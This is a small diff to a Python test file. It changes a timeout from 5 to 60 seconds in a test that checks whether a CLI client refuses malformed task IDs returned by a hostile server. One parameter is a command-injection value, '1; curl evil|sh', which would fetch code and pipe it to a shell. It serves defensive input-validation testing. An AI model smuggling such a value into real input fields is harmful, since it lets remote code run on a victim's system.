@@ -58,7 +58,7 @@ def test_escape_sequences_in_a_failure_never_reach_the_terminal(
 @pytest.mark.parametrize("task_id", ["1; curl evil|sh", "7" * 33, "12\x1b[2J"])
 def test_a_task_id_that_is_not_a_number_is_refused(server: HostileServer, task_id: str) -> None:
     server.route("/openapi/v2/query", task_reply(status="RUNNING", taskId=task_id))
-    result = cli(server)("wait", "1900000000000000001", "--timeout", "5")
+    result = cli(server)("wait", "1900000000000000001", "--timeout", "60")
     assert result.exit_code == 4, result.output
     assert "invalid task id" in result.stderr
     assert "curl evil|sh" not in result.stderr.replace("'1; curl evil|sh'", "")
